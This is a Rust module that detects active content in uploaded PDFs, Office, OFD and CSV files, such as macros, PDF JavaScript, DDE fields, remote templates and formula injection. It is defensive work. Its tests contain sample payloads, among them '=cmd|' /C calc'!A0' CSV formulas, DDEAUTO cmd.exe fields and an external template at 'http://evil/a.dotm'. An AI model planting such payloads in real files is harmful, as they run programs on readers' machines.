//! What in a file could do something on its reader's machine: sought by what the formats call it, wherever it may stand.
//!
//! It is a search and no proof: what a format lets one hide in yet another way isn't found. What can't be searched is refused.

use std::io::Read;

use flate2::bufread::ZlibDecoder;

use super::{
    DocumentError, Format,
    package::Package,
    xml::{Part, Xml, walk},
};

/// Bytes that the object streams of one PDF may unpack to together: those of a thousand pages have some megabytes.
const MAX_OBJECTS: u64 = 64 << 20;

/// Something that could do something.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Active {
    /// What it is, in Chinese.
    pub what: &'static str,
    /// How to mend it.
    pub mend: &'static str,
}

const WITHOUT_MACROS: &str = "会在读者的电脑上运行，请另存为不带宏的文件";
const WITHOUT_OBJECTS: &str = "打开时可能运行，请改贴图片或文字";
const AS_PDF: &str = "会在读者的电脑上运行，请重新导出为普通的 PDF";
const NOT_SEARCHED: &str = "无法检查，请取消保护或者重新导出";
const DDE: Active =
    Active { what: "与别的程序的链接（DDE）", mend: "打开时可能运行，请断开链接以后另存" };
const FORMULA: Active =
    Active { what: "启动程序的公式", mend: "会在读者的电脑上运行，请改成文字或者删去" };

/// Between the fields of a text; no XML has it.
const NEXT_FIELD: char = '\u{1}';

/// What an object stream of a PDF says that it is.
const OBJECT_STREAM: &[u8] = b"/ObjStm";

/// Names of a PDF (ISO 32000-1, 7.3.5) that stand for what acts or brings files along.
const PDF_NAMES: [(&[u8], &str); 5] = [
    (b"/JavaScript", "脚本"),
    (b"/Launch", "启动程序的命令"),
    (b"/EmbeddedFile", "夹带的文件"),
    (b"/RichMedia", "多媒体程序"),
    (b"/XFA", "动态表单（XFA）"),
];

/// What a package's list of content types says of parts that act (ECMA-376 part 2, and what Office adds).
const CONTENT_TYPES: [(&str, &str, &str); 6] = [
    ("macroenabled", "宏", WITHOUT_MACROS),
    ("vbaproject", "宏", WITHOUT_MACROS),
    ("macrosheet", "宏表", WITHOUT_MACROS),
    ("activex", "控件", WITHOUT_MACROS),
    ("oleobject", "嵌入的对象", WITHOUT_OBJECTS),
    // Where one is declared by its name alone.
    ("vbadata", "宏", WITHOUT_MACROS),
];

/// The same of the names of parts, whatever they are declared as.
const PARTS: [(&str, &str, &str); 4] = [
    ("vbaproject", "宏", WITHOUT_MACROS),
    ("/macrosheets/", "宏表", WITHOUT_MACROS),
    ("/activex/", "控件", WITHOUT_MACROS),
    ("/oleobject", "嵌入的对象", WITHOUT_OBJECTS),
];
/// Documents that may stand in another one: the tables behind charts.
const EMBEDDED: [&str; 3] = [".xlsx", ".docx", ".pptx"];
/// What a document fetches from elsewhere when it is opened.
const FETCHED: [&str; 3] = ["/attachedtemplate", "/oleobject", "/frame"];

/// What in a file of this format could do something; `None` where nothing was found.
pub fn active(bytes: &[u8], format: Format) -> Result<Option<Active>, DocumentError> {
    match format {
        Format::Pdf => Ok(pdf(bytes)),
        Format::Docx | Format::Xlsx => office(bytes, format.label()),
        Format::Html => Ok(Some(Active { what: "网页内容", mend: "里面可能有脚本，请另存为 PDF" })),
        Format::Ofd => ofd(bytes),
        Format::Csv => Ok(starts_programs(&letters_of(bytes)).then_some(FORMULA)),
        Format::Markdown | Format::Text => Ok(None),
    }
}

fn pdf(bytes: &[u8]) -> Option<Active> {
    if let Some(found) = named(bytes) {
        return Some(found);
    }
    // Objects packed into streams are searched unpacked.
    let unsearched = Active { what: "加密的或者不照规定压缩的内容", mend: NOT_SEARCHED };
    let (mut from, mut left, mut searched) = (0, MAX_OBJECTS, 0);
    while let Some(at) = find(bytes, b"stream", from) {
        let (head, data) = (&bytes[from..at], &bytes[at + b"stream".len()..]);
        from = at + b"stream".len();
        let head = plain_names(head);
        let Some(head) = dictionary(&head) else { continue };
        let has = |name: &[u8]| find(head, name, 0).is_some();
        let streams = count(head, OBJECT_STREAM);
        searched += streams;
        // What is not packed has been searched where it stands.
        if streams == 0 || !has(b"/Filter") {
            continue;
        }
        let data = data.strip_prefix(b"\r\n").or_else(|| data.strip_prefix(b"\n")).unwrap_or(data);
        let mut unpacked = Vec::new();
        let read = ZlibDecoder::new(data).take(left + 1).read_to_end(&mut unpacked);
        let understood = has(b"/FlateDecode") && !has(b"/DecodeParms") && !has(b"/ASCII");
        if !understood || read.is_err() || unpacked.len() as u64 > left {
            return Some(unsearched);
        }
        left -= unpacked.len() as u64;
        if let Some(found) = named(&unpacked) {
            return Some(found);
        }
    }
    (searched < count(&plain_names(bytes), OBJECT_STREAM)).then_some(unsearched)
}

/// The dictionary of a stream, of what stands before that word; `None` where the word need not begin a stream. A dictionary is
/// taken as a whole, and without texts and comments, in which everything can be written: that of an object stream has none.
fn dictionary(before: &[u8]) -> Option<&[u8]> {
    let from = before.windows(3).rposition(|word| word == b"obj").map_or(0, |at| at + 3);
    let own = before[from..].trim_ascii();
    let inner = own.strip_prefix(b"<<")?.strip_suffix(b">>")?;
    let (mut depth, mut rest) = (0u32, inner);
    while let [_, tail @ ..] = rest {
        (depth, rest) = match rest {
            [b'<', b'<', tail @ ..] => (depth + 1, tail),
            [b'>', b'>', tail @ ..] => (depth.checked_sub(1)?, tail),
            [b'(' | b')' | b'%', ..] => return None,
            _ => (depth, tail),
        };
    }
    (depth == 0).then_some(inner)
}

fn count(bytes: &[u8], what: &[u8]) -> usize {
    let (mut from, mut n) = (0, 0);
    while let Some(at) = find(bytes, what, from) {
        (from, n) = (at + what.len(), n + 1);
    }
    n
}

fn named(bytes: &[u8]) -> Option<Active> {
    let plain = plain_names(bytes);
    let found = PDF_NAMES.iter().find(|(name, _)| {
        let mut from = 0;
        while let Some(at) = find(&plain, name, from) {
            from = at + name.len();
            // The names of more than one: EmbeddedFiles.
            let behind = plain[from..].strip_prefix(b"s").unwrap_or(&plain[from..]);
            // Pictures have any four bytes somewhere: a name is over where a sign says so (7.2.2).
            if behind.first().is_none_or(|byte| b"\0\t\n\x0C\r ()<>[]{}/%".contains(byte)) {
                return true;
            }
        }
        false
    });
    found.map(|(_, what)| Active { what, mend: AS_PDF })
}

/// The bytes with what names may write as `#` and two digits written out.
fn plain_names(bytes: &[u8]) -> Vec<u8> {
    let mut plain = Vec::with_capacity(bytes.len());
    let mut rest = bytes;
    while let [first, tail @ ..] = rest {
        let pair = tail.first_chunk::<2>().filter(|pair| *first == b'#' && pair.iter().all(u8::is_ascii_hexdigit));
        let byte = pair.and_then(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok());
        plain.push(byte.unwrap_or(*first));
        rest = if byte.is_some() { &tail[2..] } else { tail };
    }
    plain
}

fn find(bytes: &[u8], what: &[u8], from: usize) -> Option<usize> {
    let first = *what.first()?;
    let mut at = from;
    while let Some(next) = bytes.get(at..)?.iter().position(|byte| *byte == first) {
        at += next;
        if bytes[at..].starts_with(what) {
            return Some(at);
        }
        at += 1;
    }
    None
}

fn office(bytes: &[u8], format: &'static str) -> Result<Option<Active>, DocumentError> {
    let mut package = Package::open(bytes, format)?;
    let of = |what, mend| Ok(Some(Active { what, mend }));
    let names: Vec<String> = package.names().map(|name| format!("/{name}")).collect();
    for name in &names {
        if let Some((_, what, mend)) = PARTS.iter().find(|(part, ..)| name.contains(part)) {
            return of(what, mend);
        }
        if name.contains("/embeddings/") && !EMBEDDED.iter().any(|end| name.ends_with(end)) {
            return of("嵌入的对象", WITHOUT_OBJECTS);
        }
    }
    for name in &names {
        let (types, relations) = (name == "/[content_types].xml", name.ends_with(".rels"));
        let links = name.starts_with("/xl/externallinks/") && name.ends_with(".xml");
        let fields = name.starts_with("/word/") && name.ends_with(".xml");
        if !types && !relations && !links && !fields {
            continue;
        }
        let part = package.need(&name[1..])?;
        if fields && tells_dde(&instructions(&part, Part::new(format, &name[1..]))?) {
            return Ok(Some(DDE));
        }
        let text = letters_of(&part);
        if (types || relations) && text.contains("&#") {
            // No program writes these so.
            return of("改写过的目录", "无法检查，请用 Office 或 WPS 另存为新文件");
        }
        if types && let Some((_, what, mend)) = CONTENT_TYPES.iter().find(|(kind, ..)| text.contains(kind)) {
            return of(what, mend);
        }
        let fetches = |tag: &str| tag.contains("\"external\"") && FETCHED.iter().any(|kind| tag.contains(kind));
        if relations && text.replace('\'', "\"").split('<').any(fetches) {
            return of("从别处取来的模板或者对象", "打开时会去取，请断开链接以后另存");
        }
        if links && text.contains("ddelink") {
            return Ok(Some(DDE));
        }
    }
    Ok(None)
}

/// What the fields of a part are told to do (ECMA-376 part 1, 17.16), each behind a sign of its own; the words of a field may
/// be cut into runs. It is read as Word reads it, so that no comment, section or reference hides a word.
fn instructions(part: &[u8], name: Part<'_>) -> Result<String, DocumentError> {
    let mut told = String::new();
    // Elements that are open within the words of a field, and that one.
    let mut within = 0usize;
    walk(part, name, |event| {
        match event {
            Xml::Start(element) => {
                within += usize::from(within > 0);
                match element.name.to_ascii_lowercase().as_str() {
                    "instrtext" if within == 0 => within = 1,
                    "fldchar" => told.push(NEXT_FIELD),
                    "fldsimple" => {
                        told.push(NEXT_FIELD);
                        told.push_str(&element.attribute("instr").unwrap_or_default());
                        told.push(NEXT_FIELD);
                    }
                    _ => {}
                }
            }
            Xml::End(_) => within = within.saturating_sub(1),
            Xml::Text(text) if within > 0 => told.push_str(&text),
            Xml::Text(_) => {}
        }
        Ok(())
    })?;
    Ok(told)
}

/// Whether a field begins with what leads to another program.
fn tells_dde(instructions: &str) -> bool {
    let mut first = instructions.split(NEXT_FIELD).filter_map(|field| field.split_whitespace().next());
    first.any(|word| ["dde", "ddeauto"].iter().any(|dde| word.eq_ignore_ascii_case(dde)))
}

/// Files that an OFD brings along, and what opens them (GB/T 33190-2016).
fn ofd(bytes: &[u8]) -> Result<Option<Active>, DocumentError> {
    let mut package = Package::open(bytes, Format::Ofd.label())?;
    let names: Vec<String> = package.names().filter(|name| name.ends_with(".xml")).map(str::to_owned).collect();
    for name in names {
        let text = letters_of(&package.need(&name)?);
        for tag in text.split('<') {
            let tag = tag.split(|c: char| c.is_whitespace() || c == '>' || c == '/').next().unwrap_or_default();
            let what = match tag.rsplit(':').next() {
                Some("attachment" | "gotoa") => "夹带的文件",
                Some("movie" | "sound") => "自动播放的多媒体",
                _ => continue,
            };
            return Ok(Some(Active {
                what, mend: "会随文件到读者的电脑上，请重新导出为不带它的 OFD"
            }));
        }
    }
    Ok(None)
}

/// Whether a cell of a table starts a program when it is opened: =cmd|' /C calc'!A0.
fn starts_programs(text: &str) -> bool {
    let starts_one = |cell: &str| {
        let cell = cell.trim_start_matches(|c: char| c.is_whitespace() || ['"', '\u{FEFF}', '\u{FFFD}'].contains(&c));
        let Some(formula) = cell.strip_prefix(['=', '+', '-', '@']) else { return false };
        let Some((program, _)) = formula.split_once('|') else { return false };
        let is_name = |c: char| c.is_ascii_alphanumeric() || " '\"._\\:+-*/&<>=@()".contains(c);
        program.contains(|c: char| c.is_ascii_alphabetic()) && program.chars().all(is_name)
    };
    text.lines().any(|line| {
        let has_topic = line.split_once('|').is_some_and(|(_, topic)| topic.contains('!'));
        has_topic && line.split([',', ';', '\t']).any(starts_one)
    })
}

/// A part's text in small letters, whichever Unicode form it is written in.
fn letters_of(bytes: &[u8]) -> String {
    let bytes: Vec<u8> = bytes.iter().copied().filter(|byte| *byte != 0).collect();
    String::from_utf8_lossy(&bytes).to_ascii_lowercase()
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use flate2::{Compression, write::ZlibEncoder};
    use proptest::prelude::*;

    use super::*;
    use crate::documents::fixtures::{docx, docx_with, zip};

    fn packed(bytes: &[u8]) -> Vec<u8> {
        let mut packing = ZlibEncoder::new(Vec::new(), Compression::default());
        packing.write_all(bytes).unwrap();
        packing.finish().unwrap()
    }

    /// A PDF with an object stream.
    fn with_objects(dictionary: &str, data: &[u8]) -> Vec<u8> {
        [
            &b"%PDF-1.7\n1 0 obj\n<< /Type /Page >>\nendobj\n2 0 obj\n"[..],
            dictionary.as_bytes(),
            b"\nstream\r\n",
            data,
            b"\nendstream\nendobj\n",
        ]
        .concat()
    }

    fn what(bytes: &[u8], format: Format) -> &'static str {
        active(bytes, format).unwrap().map_or("", |found| found.what)
    }

    #[test]
    fn names_of_a_pdf_are_found_however_they_are_written() {
        for (text, found) in [
            ("<< /S /JavaScript /JS (x) >>", "脚本"),
            ("<< /S /J#61vaScript >>", "脚本"),
            ("<< /S /#4a#61#76#61#53#63#72#69#70#74>>", "脚本"),
            ("<< /S/Launch/F(a.exe) >>", "启动程序的命令"),
            ("<< /Names << /EmbeddedFiles 3 0 R >> >>", "夹带的文件"),
            ("<< /Type/EmbeddedFile >>", "夹带的文件"),
            ("<< /Subtype /RichMedia >>", "多媒体程序"),
            ("<< /AcroForm << /XFA [] >> >>", "动态表单（XFA）"),
            ("\u{1}/XFA\u{2}", ""),
            ("<< /Title (JavaScript) /XFAB 1 /LaunchPad 2 >>", ""),
            ("a # b #zz /Page #4", ""),
        ] {
            assert_eq!(what(format!("%PDF-1.7\n{text}").as_bytes(), Format::Pdf), found, "{text}");
            for dictionary in ["<< /Type /ObjStm /Filter /FlateDecode >>", "<</Filter[/Fl#61teDecode]/Type/Obj#53tm>>"]
            {
                let whole = with_objects(dictionary, &packed(text.as_bytes()));
                assert_eq!(what(&whole, Format::Pdf), found, "{dictionary} {text}");
            }
        }
        // What cannot be searched is not let through.
        let script = packed(b"/JavaScript");
        for (dictionary, data) in [
            ("<< /Type /ObjStm /Filter /LZWDecode >>", &script[..]),
            ("<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>", b"789c"),
            ("<< /Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >> >>", &script),
            ("<< /Type /ObjStm /Filter /FlateDecode >>", b"encrypted"),
        ] {
            let told = what(&with_objects(dictionary, data), Format::Pdf);
            assert!(told.contains("加密"), "{dictionary}: {told}");
        }
        let bomb = packed(&vec![b' '; MAX_OBJECTS as usize + 1]);
        assert!(what(&with_objects("<</Type/ObjStm/Filter/FlateDecode>>", &bomb), Format::Pdf).contains("加密"));
        // Nor what hides that it is packed.
        let balanced = "/stream << /X 1 >>";
        for hidden in
            [balanced, "/A (stream)", "/A (>> stream\n)", "/A (endobj << >> stream\n)", "%>>\nstream\n", "/stream"]
        {
            for order in
                [["/Type /ObjStm", hidden, "/Filter /FlateDecode"], ["/Filter /FlateDecode", hidden, "/Type /ObjStm"]]
            {
                let whole = with_objects(&format!("<< {} >>", order.join(" ")), &script);
                assert_ne!(what(&whole, Format::Pdf), "", "{order:?}");
            }
        }
        // Pictures and pages are packed as well, and nothing of theirs acts.
        assert_eq!(what(&with_objects("<< /Subtype /Image /Filter /DCTDecode >>", b"\xFF\xD8"), Format::Pdf), "");
    }

    #[test]
    fn what_acts_in_an_office_file_is_found_by_what_it_is() {
        let word = |more: &[(&str, &[u8])]| docx_with("<w:p/>", more);
        let sheet = |types: &str, more: &[(&str, &[u8])]| {
            zip(&[&[("[Content_Types].xml", types.as_bytes()), ("xl/workbook.xml", &b"<a/>"[..])][..], more].concat())
        };
        let utf16: Vec<u8> = "<Types ContentType=\"vbaProject\"/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert_eq!(what(&docx("甲"), Format::Docx), "");
        for (bytes, format, found) in [
            (word(&[("word/vbaProject.bin", b"x")]), Format::Docx, "宏"),
            (word(&[("word/embeddings/oleObject1.bin", b"x")]), Format::Docx, "嵌入的对象"),
            (word(&[("word/embeddings/a.exe", b"x")]), Format::Docx, "嵌入的对象"),
            (word(&[("word/embeddings/Microsoft_Excel_Sheet1.xlsx", b"x")]), Format::Docx, ""),
            (word(&[("word/activeX/activeX1.xml", b"x")]), Format::Docx, "控件"),
            (
                word(&[(
                    "word/_rels/settings.xml.rels",
                    br#"<Relationship Type="http://x/attachedTemplate" TargetMode='External' Target="http://evil/a.dotm"/>"#,
                )]),
                Format::Docx,
                "从别处取来的模板或者对象",
            ),
            (
                word(&[(
                    "word/_rels/document.xml.rels",
                    br#"<Relationship Type="http://x/hyperlink" TargetMode="External" Target="http://a/"/><Relationship Type="http://x/attachedTemplate" Target="a"/>"#,
                )]),
                Format::Docx,
                "",
            ),
            // Whatever the part is called, the list says what it is.
            (
                sheet(r#"<Override PartName="/xl/a.dat" ContentType="application/vnd.ms-office.vbaProject"/>"#, &[]),
                Format::Xlsx,
                "宏",
            ),
            (sheet(r#"<Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>"#, &[]), Format::Xlsx, "宏"),
            (sheet("<Override ContentType=\"vba&#80;roject\"/>", &[]), Format::Xlsx, "改写过的目录"),
            (zip(&[("[Content_Types].xml", &utf16), ("xl/workbook.xml", b"<a/>")]), Format::Xlsx, "宏"),
            (sheet("<Types/>", &[("xl/macrosheets/sheet1.xml", b"x")]), Format::Xlsx, "宏表"),
            (sheet("<Types/>", &[("xl/externalLinks/externalLink1.xml", b"<ddeLink/>")]), Format::Xlsx, "与别的程序的链接（DDE）"),
            (sheet("<Types/>", &[("xl/externalLinks/externalLink1.xml", b"<externalBook/>")]), Format::Xlsx, ""),
            (docx_with(r#"<w:p><w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe "/></w:p>"#, &[]), Format::Docx, DDE.what),
            (
                docx_with("<w:p><w:instrText>DD</w:instrText><w:r/><w:instrText>E cmd</w:instrText></w:p>", &[]),
                Format::Docx,
                DDE.what,
            ),
            (word(&[("word/footer1.xml", b"<w:instrText xml:space=\"preserve\"> ddeauto x</w:instrText>")]), Format::Docx, DDE.what),
            (docx_with("<w:p><w:instrText>&#68;DE cmd</w:instrText></w:p>", &[]), Format::Docx, DDE.what),
            (docx_with("<w:p><w:instrText>DD<!--x-->E cmd</w:instrText></w:p>", &[]), Format::Docx, DDE.what),
            (docx_with("<w:p><w:instrText>D<![CDATA[D]]>E cmd</w:instrText></w:p>", &[]), Format::Docx, DDE.what),
            (docx_with("<w:p><w:instrText a=\">\">DDE cmd</w:instrText></w:p>", &[]), Format::Docx, DDE.what),
            (docx_with("<w:p><w:fldSimple w:instr= \"DDEAUTO cmd\"/></w:p>", &[]), Format::Docx, DDE.what),
            (docx_with("<w:p><w:fldSimple w:instr =\"DDE cmd\"/></w:p>", &[]), Format::Docx, DDE.what),
            (docx_with("<w:p><w:instrText>PAGE</w:instrText><w:t>DDE <![CDATA[DDE]]></w:t><!--<w:instrText>DDE--></w:p>", &[]), Format::Docx, ""),
            (docx_with("<w:p><w:instrText> PAGE </w:instrText><w:t>DDE</w:t></w:p>", &[]), Format::Docx, ""),
            (
                docx_with("<w:p><w:instrText>HYPERLINK \"http://a/dde/\"</w:instrText><w:fldChar/><w:instrText>PAGE</w:instrText></w:p>", &[]),
                Format::Docx,
                "",
            ),
        ] {
            assert_eq!(what(&bytes, format), found);
        }
    }

    #[test]
    fn what_an_ofd_and_a_table_bring_along_is_found() {
        let ofd = |name: &str, part: &str| zip(&[("OFD.xml", &b"<ofd:OFD/>"[..]), (name, part.as_bytes())]);
        for (name, part, found) in [
            (
                "Doc_0/Attachs/Attachments.xml",
                "<ofd:Attachments><ofd:Attachment ID=\"1\"/></ofd:Attachments>",
                "夹带的文件",
            ),
            (
                "Doc_0/Document.xml",
                "<ofd:Actions><ofd:Action><ofd:GotoA AttachID=\"1\"/></ofd:Action></ofd:Actions>",
                "夹带的文件",
            ),
            ("Doc_0/Document.xml", "<ofd:Action><ofd:Movie/></ofd:Action>", "自动播放的多媒体"),
            ("Doc_0/Document.xml", "<ofd:Attachments>a.xml</ofd:Attachments><ofd:URI URI=\"http://a/\"/>", ""),
            ("Doc_0/Page.xml", "<ofd:TextCode>Attachment</ofd:TextCode>", ""),
        ] {
            assert_eq!(what(&ofd(name, part), Format::Ofd), found, "{part}");
        }
        for (table, found) in [
            ("单位,数\n甲,=cmd|' /C calc'!A0\n", FORMULA.what),
            ("甲,\" =cmd|'/C calc'!A0\"", FORMULA.what),
            ("甲\t@SUM(1+1)*cmd|' /C calc'!A0", FORMULA.what),
            ("甲,+MSEXCEL|'\\\\..\\cmd.exe'!A0", FORMULA.what),
            ("甲,-5|6!\n选项,-v|--verbose\n和,=甲|乙!丙", ""),
            ("甲,=A1+B1\n乙|丙!", ""),
        ] {
            assert_eq!(what(table.as_bytes(), Format::Csv), found, "{table}");
        }
        // Looking for the sign behind each cell anew would take minutes.
        assert_eq!(what("=a|,".repeat(1_000_000).as_bytes(), Format::Csv), "");
        let utf16: Vec<u8> = "\u{FEFF}=cmd|'/C calc'!A0".encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert_eq!(what(&utf16, Format::Csv), FORMULA.what);
    }

    proptest! {
        #[test]
        fn what_cannot_be_searched_is_never_let_through(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
            // No packed data begins with this byte.
            let data = [&b"\xFF"[..], &bytes[..]].concat();
            let whole = with_objects("<< /Type /ObjStm /Filter /FlateDecode >>", &data);
            prop_assert!(active(&whole, Format::Pdf).unwrap().is_some());
            // A package begins with other bytes.
            prop_assert!(active(&data.iter().map(|byte| byte | 0x80).collect::<Vec<_>>(), Format::Docx).is_err());
        }

        #[test]
        fn a_script_is_found_in_an_object_stream_whatever_its_dictionary_says(
            more in proptest::collection::vec(any::<u8>(), 0..60),
            before in proptest::collection::vec(any::<u8>(), 0..60),
        ) {
            let data = packed(&[&before[..], b"   /JavaScript "].concat());
            let dictionary = [&b"<< /Type /ObjStm /Filter /FlateDecode /A ("[..], &more, b"   ) >>\nstream\n"].concat();
            for dictionary in [&dictionary[..], b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"] {
                let whole = [&b"%PDF-1.7\n1 0 obj\n"[..], dictionary, &data, b"\nendstream\nendobj\n"].concat();
                prop_assert!(active(&whole, Format::Pdf).unwrap().is_some());
            }
        }

        #[test]
        fn a_script_is_found_wherever_it_stands(
            before in proptest::collection::vec(any::<u8>(), 0..60),
            after in proptest::collection::vec(any::<u8>(), 0..60),
        ) {
            // A sign before it may eat its beginning: a name begins after anything but half of what names may write.
            let whole = [&b"%PDF-1.7 "[..], &before[..], b"   /JavaScript ", &after[..]].concat();
            prop_assert!(active(&whole, Format::Pdf).unwrap().is_some());
        }
    }
}
